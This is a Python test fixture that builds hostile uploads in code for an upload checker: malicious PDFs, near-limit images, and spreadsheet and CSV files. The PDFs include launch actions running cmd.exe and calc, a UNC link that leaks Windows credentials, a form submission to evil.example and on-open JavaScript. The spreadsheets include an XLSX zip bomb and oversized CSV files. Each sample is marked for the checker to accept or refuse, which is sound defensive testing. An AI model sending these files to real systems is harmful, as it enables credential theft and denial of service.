"""A hostile corpus made in code: the attack files of issue 14 (and their siblings), built on the fly.

Nothing here is committed as a blob. Every builder returns bytes; `PDFS`, `IMAGES`, `SHEETS`
name them so tests and `bench/hostile/run.py` walk the same list. PDFs are written by hand
(objects, xref, trailer) so each one is exactly the structure an attacker would send, not what a
well-behaved library would produce. Add new attacks here as they are found.
"""

import io
import zipfile

from PIL import Image, ImageDraw

# ----------------------------------------------------------------------------- PDF


def raw_pdf(objects, *, root=1, trailer_extra=""):
    """A PDF from object bodies (numbered from 1 in order) with a correct xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        data = body if isinstance(body, bytes) else body.encode("latin-1")
        out.write(b"%d 0 obj\n" % number + data + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    trailer = f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R {trailer_extra}>>\nstartxref\n{xref}\n%%EOF\n"
    out.write(trailer.encode("latin-1"))
    return out.getvalue()


def _stream(dictionary, data):
    return f"<< {dictionary} /Length {len(data)} >>\nstream\n".encode("latin-1") + data + b"\nendstream"


def pdf_pages(*page_dicts, catalog_extra="", pages_extra="", extra_objects=()):
    """Catalog (1), page tree (2), pages (3..), then `extra_objects` numbered after the pages."""
    kids = " ".join(f"{3 + i} 0 R" for i in range(len(page_dicts)))
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog_extra}>>",
        f"<< /Type /Pages /Kids [{kids}] /Count {len(page_dicts)} {pages_extra}>>",
    ]
    objects += [f"<< /Type /Page /Parent 2 0 R {d} >>" for d in page_dicts]
    return raw_pdf(objects + list(extra_objects))


A4 = "/MediaBox [0 0 595 842]"


def pdf_plain():
    """A harmless one-page A4 PDF with an internal link and a web link: must be accepted."""
    return pdf_pages(
        A4 + " /Annots [4 0 R 5 0 R]",
        extra_objects=[
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://tubankab.go.id) >> >>",
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] >>",
        ],
    )


def pdf_a0_landscape():
    """An A0 drawing, landscape (3370 x 2384 pt): the largest page we accept."""
    return pdf_pages("/MediaBox [0 0 3370 2384]")


def pdf_huge_mediabox():
    """The issue's attack: 594 bytes, one 200 x 200 inch page (60,000 x 60,000 px at 300 dpi)."""
    return pdf_pages("/MediaBox [0 0 14400 14400]")


def pdf_user_unit():
    """An A4 box that /UserUnit 75 makes 15 x 21 metres."""
    return pdf_pages(A4 + " /UserUnit 75")


def pdf_huge_second_page():
    """Page 1 is A4, page 2 is absurd: every page is checked, not only the first."""
    return pdf_pages(A4, "/MediaBox [0 0 595 200000]")


def pdf_huge_inherited():
    """The absurd box is on the page tree and inherited by the page."""
    return pdf_pages("", pages_extra="/MediaBox [-7200 -7200 7200 7200]")


def pdf_huge_cropbox():
    """A4 media box with an absurd crop box (some renderers use the crop box)."""
    return pdf_pages(A4 + " /CropBox [0 0 14400 14400]")


def pdf_bad_mediabox():
    """A media box that is not four numbers."""
    return pdf_pages("/MediaBox [0 0 (lebar) 842]")


def pdf_file_attachment():
    """An executable attached through a /FileAttachment annotation (/FS -> /EF -> /EmbeddedFile)."""
    return pdf_pages(
        A4 + " /Annots [4 0 R]",
        extra_objects=[
            "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
            "<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>",
            _stream("/Type /EmbeddedFile", b"MZ\x90\x00 not really a program"),
        ],
    )


def pdf_embedded_stream_only():
    """An /EmbeddedFile stream referenced from a page's own dictionary under an innocent key."""
    return pdf_pages(A4 + " /PieceInfo << /X 4 0 R >>", extra_objects=[_stream("/Type /EmbeddedFile", b"MZ")])


def pdf_launch_indirect():
    """A /Launch action whose /S is an indirect reference to the name."""
    return pdf_pages(
        A4,
        catalog_extra="/OpenAction 4 0 R",
        extra_objects=["<< /S 5 0 R /Win << /F (cmd.exe) /P (/c calc) >> >>", "/Launch"],
    )


def pdf_launch_hex_name():
    """/Launch spelt with a #-escape in the name (/L#61unch): the same name to a PDF reader."""
    return pdf_pages(A4, catalog_extra="/OpenAction << /S /L#61unch /F (calc.exe) >>")


def pdf_gotor_unc():
    """A link to a remote PDF on a UNC path (leaks the Windows credentials of whoever opens it)."""
    return pdf_pages(
        A4 + " /Annots [4 0 R]",
        extra_objects=[
            "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
            "/A << /S /GoToR /F (\\\\\\\\10.6.6.6\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"
        ],
    )


def pdf_gotoe():
    return pdf_pages(A4, catalog_extra="/OpenAction << /S /GoToE /T << /R /C /N (lampiran) >> >>")


def pdf_submit_form():
    return pdf_pages(A4, catalog_extra="/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>")


def pdf_import_data():
    return pdf_pages(A4, catalog_extra="/OpenAction << /S /ImportData /F (C:\\\\data.fdf) >>")


def pdf_rich_media():
    return pdf_pages(
        A4 + " /Annots [4 0 R]",
        extra_objects=["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"],
    )


def pdf_page_aa_javascript():
    """A page's additional action (/AA, on open) pointing at an indirect JavaScript action."""
    return pdf_pages(
        A4 + " /AA << /O 4 0 R >>",
        extra_objects=["<< /Type /Action /S 5 0 R /JS 6 0 R >>", "/JavaScript", "(app.alert(1))"],
    )


def pdf_deep_nesting(depth=200):
    """Arrays nested 200 deep (pypdf reads them): the walk stops at its depth cap."""
    return pdf_pages(A4 + " /Stuff " + "[" * depth + "0" + "]" * depth)


def pdf_deeper_than_parser():
    """Arrays nested 5000 deep: the parser gives up; refused as broken, never a 500."""
    return pdf_deep_nesting(5000)


def pdf_many_objects(count=60_000):
    """More reachable objects than the walk's budget, each tiny."""
    refs = " ".join(f"{4 + i} 0 R" for i in range(count))
    return pdf_pages(A4 + f" /Stuff [{refs}]", extra_objects=["0"] * count)


def pdf_broken_xref():
    """A PDF cut in the middle of its xref table."""
    data = pdf_plain()
    return data[: data.index(b"xref") + 12]


# name -> (builder, what the upload check must do)
PDFS = {
    "plain": (pdf_plain, "accept"),
    "a0_landscape": (pdf_a0_landscape, "accept"),
    "huge_mediabox": (pdf_huge_mediabox, "refuse"),
    "user_unit": (pdf_user_unit, "refuse"),
    "huge_second_page": (pdf_huge_second_page, "refuse"),
    "huge_inherited": (pdf_huge_inherited, "refuse"),
    "huge_cropbox": (pdf_huge_cropbox, "refuse"),
    "bad_mediabox": (pdf_bad_mediabox, "refuse"),
    "file_attachment": (pdf_file_attachment, "refuse"),
    "embedded_stream_only": (pdf_embedded_stream_only, "refuse"),
    "launch_indirect": (pdf_launch_indirect, "refuse"),
    "launch_hex_name": (pdf_launch_hex_name, "refuse"),
    "gotor_unc": (pdf_gotor_unc, "refuse"),
    "gotoe": (pdf_gotoe, "refuse"),
    "submit_form": (pdf_submit_form, "refuse"),
    "import_data": (pdf_import_data, "refuse"),
    "rich_media": (pdf_rich_media, "refuse"),
    "page_aa_javascript": (pdf_page_aa_javascript, "refuse"),
    "deep_nesting": (pdf_deep_nesting, "refuse"),
    "deeper_than_parser": (pdf_deeper_than_parser, "refuse"),
    "many_objects": (pdf_many_objects, "refuse"),
    "broken_xref": (pdf_broken_xref, "refuse"),
}

# ----------------------------------------------------------------------------- images


def png_near_cap(max_pixels=60_000_000, seed=0):
    """A mostly white RGB PNG just under the pixel cap: a few hundred KB that decode to ~180 MB."""
    width = 6000
    height = (max_pixels - 1000) // width
    image = Image.new("RGB", (width, height), (255, 255, 255))
    draw = ImageDraw.Draw(image)
    for i in range(40):
        y = (i * 997 + seed * 131) % height
        draw.line([(0, y), (width, (y * 7) % height)], fill=(i * 5 % 255, 0, 0), width=3)
    out = io.BytesIO()
    image.save(out, "PNG", compress_level=9)
    return out.getvalue()


def jpeg_near_cap(max_pixels=60_000_000):
    width = 6000
    height = (max_pixels - 1000) // width
    out = io.BytesIO()
    Image.new("RGB", (width, height), (250, 250, 245)).save(out, "JPEG", quality=50)
    return out.getvalue()


# ----------------------------------------------------------------------------- spreadsheets

HEADER = ["tingkat", "nama_kim", "kecamatan"]


def _xlsx_zip(sheet_xml, shared=None):
    """A minimal XLSX written by hand, so the sheet's <dimension> says whatever we like."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="KIM" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
        )
        z.writestr("xl/worksheets/sheet1.xml", sheet_xml)
    return out.getvalue()


def _inline_row(number, values):
    cells = "".join(f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
    return f'<row r="{number}">{cells}</row>'


def xlsx_declared_huge():
    """The issue's attack: a few KB whose sheet declares A1:XFD1048576 (and one far-away cell)."""
    rows = _inline_row(1, HEADER) + _inline_row(2, ["kecamatan", "KIM Satu", "Jenu"])
    rows += '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return _xlsx_zip(
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData></worksheet>'
    )


def xlsx_lying_dimension():
    """Declares A1:C2 but has a header and then a cell a million rows down: the cap counts empty rows."""
    rows = _inline_row(1, HEADER) + _inline_row(2, ["kecamatan", "KIM Satu", "Jenu"])
    rows += '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>kecamatan</t></is></c></row>'
    return _xlsx_zip(
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="A1:C2"/><sheetData>{rows}</sheetData></worksheet>'
    )


def xlsx_zip_bomb(megabytes=200):
    """A sheet whose XML inflates to hundreds of MB from a small zip."""
    filler = "<!--" + "x" * (megabytes * 1024 * 1024) + "-->"
    rows = _inline_row(1, HEADER) + _inline_row(2, ["kecamatan", "KIM Satu", "Jenu"])
    return _xlsx_zip(
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{rows}</sheetData>{filler}</worksheet>"
    )


def csv_huge_field(size=200_000):
    """A CSV with one field longer than csv.field_size_limit() (131,072)."""
    return ('tingkat,nama_kim,kecamatan\nkecamatan,"' + "A" * size + '",Jenu\n').encode()


def csv_many_blank_lines(count=2_000_000):
    """A header and then two million empty lines (2 MB): the row cap counts empty lines."""
    return ("tingkat,nama_kim,kecamatan\n" + "\n" * count).encode()


def csv_many_columns(count=200_000):
    """One header row with 200,000 columns."""
    return (",".join(["nama_kim", "tingkat"] + ["x"] * count) + "\n").encode()


SHEETS = {
    "xlsx_declared_huge": (xlsx_declared_huge, "refuse"),
    "xlsx_lying_dimension": (xlsx_lying_dimension, "refuse"),
    "xlsx_zip_bomb": (xlsx_zip_bomb, "refuse"),
    "csv_huge_field": (csv_huge_field, "refuse"),
    "csv_many_blank_lines": (csv_many_blank_lines, "refuse"),
    "csv_many_columns": (csv_many_columns, "refuse"),
}
